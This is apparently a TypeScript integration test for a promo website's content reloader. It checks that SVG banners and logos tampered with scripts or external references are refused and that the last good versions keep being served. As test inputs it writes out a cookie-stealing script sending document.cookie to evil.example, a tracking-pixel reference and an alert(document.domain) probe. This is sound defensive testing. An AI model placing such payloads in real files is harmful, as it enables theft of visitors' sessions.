// A running campaign never leaves the site because of its art (docs/decisions/105-broken-file-holds-back-itself.md):
// the real app on a copy of the tests' content reads a change of its folder (as its watcher does) in which a
// running campaign's SVG banner gains a script, then another an external reference, both refused by the SVG
// check (server/content/svg-safety.ts). The campaign's page, its hub card, its card checks and its banner's
// bytes stay as they were; the banner file is held back, on «Состояние сайта» and in /metrics. A brand's SVG logo
// turned bad keeps its last good bytes the same way. The day is RUNNING_DAY.
import { appendFileSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { copyFixtureContent } from '../support/content.js';
import { startApp, type TestApp } from '../support/start-app.js';

const HOST = 'promo.example.ru';
let dir: string;
let t: TestApp;

const banner = (size: string) => path.join(dir, 'banners', `knauf2025-${size}.svg`);
const get = (url: string) => request(t.listener).get(url).set('Host', HOST);

/** What a visitor gets of knauf2025: its page, its card on the hub, a card check, and its banners' bytes. */
async function knaufAsServed() {
  const pageRes = await get('/promo/knauf2025');
  const hub = (await get('/promo/').expect(200)).text;
  const check = await get('/api/v2/promo/check/knauf2025/7000004/');
  const artOf = async (size: string) => {
    const res = await get(`/promo/static/banners/knauf2025-${size}.svg`).buffer(true);
    return `${res.status} ${Buffer.from(res.body as Buffer).toString('utf8')}`;
  };
  const art = { small: await artOf('small'), medium: await artOf('medium'), large: await artOf('large') };
  const title = /<h1[^>]*>(.*?)<\/h1>/s.exec(pageRes.text)?.[1];
  return { page: pageRes.status, title, onHub: hub.includes('href="/promo/knauf2025"'), check: check.status, art };
}

beforeAll(async () => {
  dir = copyFixtureContent('promo-art-kept-');
  t = await startApp({ env: { CONTENT_DIR: dir } });
});
afterAll(async () => {
  await t.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('a running campaign whose art turns bad', () => {
  let before: Awaited<ReturnType<typeof knaufAsServed>>;
  beforeAll(async () => {
    before = await knaufAsServed();
  });

  test('when its large banner gains a script, then its page, hub card, card checks and banner bytes stay as they were', async () => {
    expect(before).toMatchObject({ page: 200, onHub: true, check: 200 });
    expect(before.art.large).toMatch(/^200 <svg/);
    appendFileSync(banner('large'), '<script>fetch("https://evil.example/?c=" + document.cookie)</script>');
    await t.server.reloadContent();

    expect(await knaufAsServed()).toEqual(before);
    expect(t.server.reloads.last!.heldBack).toEqual([
      { file: 'banners/knauf2025-large.svg', kept: true, since: expect.any(Number), problems: [expect.any(String)] },
    ]);
    const metrics = (await request(t.listener).get('/metrics')).text;
    expect(metrics).toMatch(/^content_files_held_back 1$/m);
  });

  test('when another banner is given an external reference, then the campaign still serves whole, with that banner\'s last good bytes too', async () => {
    const medium = readFileSync(banner('medium'), 'utf8');
    writeFileSync(banner('medium'), medium.replace('</svg>', '<image href="https://evil.example/track.png" width="1" height="1"/></svg>'));
    await t.server.reloadContent();

    expect(await knaufAsServed()).toEqual(before);
    expect(t.server.reloads.last!.heldBack.map((held) => [held.file, held.kept]).sort()).toEqual([
      ['banners/knauf2025-large.svg', true], ['banners/knauf2025-medium.svg', true],
    ]);
  });

  test('when the banners are mended, then the new good bytes are served and nothing is held back', async () => {
    const good = before.art.large.slice('200 '.length).replace('fill="#fff"/>', 'fill="#fefefe"/>');
    writeFileSync(banner('large'), good);
    writeFileSync(banner('medium'), before.art.medium.slice('200 '.length));
    await t.server.reloadContent();

    const after = await knaufAsServed();
    expect(after.art.large).toBe(`200 ${good}`);
    expect(t.server.reloads.last!.heldBack).toEqual([]);
  });
});

describe('a brand whose SVG logo turns bad', () => {
  const logoFile = () => path.join(dir, 'brands', 'knauf-logo.svg');
  const logo = () => get('/promo/static/brands/knauf-logo.svg').buffer(true)
    .then((res) => `${res.status} ${Buffer.from(res.body as Buffer).toString('utf8')}`);
  const good = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 240 64"><rect width="240" height="64" fill="#0071b9"/></svg>';

  test('when the logo a brand names gains a script, then its last good bytes are served, and the campaign stays', async () => {
    writeFileSync(logoFile(), good);
    const brandFile = path.join(dir, 'brands', 'knauf.json');
    const fields = JSON.parse(readFileSync(brandFile, 'utf8')) as Record<string, unknown>;
    const brand = Object.entries(fields).filter(([key]) => key !== 'wordmark');
    writeFileSync(brandFile, JSON.stringify({ ...Object.fromEntries(brand), logo: 'knauf-logo.svg' }, null, 2));
    await t.server.reloadContent();
    expect(t.server.reloads.last!.heldBack).toEqual([]);
    expect(await logo()).toBe(`200 ${good}`);
    const page = (await get('/promo/knauf2025')).status;

    appendFileSync(logoFile(), '<script>alert(document.domain)</script>');
    await t.server.reloadContent();

    expect(await logo()).toBe(`200 ${good}`);
    expect((await get('/promo/knauf2025')).status).toBe(page);
    expect(t.server.reloads.last!.heldBack.map((held) => [held.file, held.kept])).toEqual([['brands/knauf.json', true]]);
  });
});
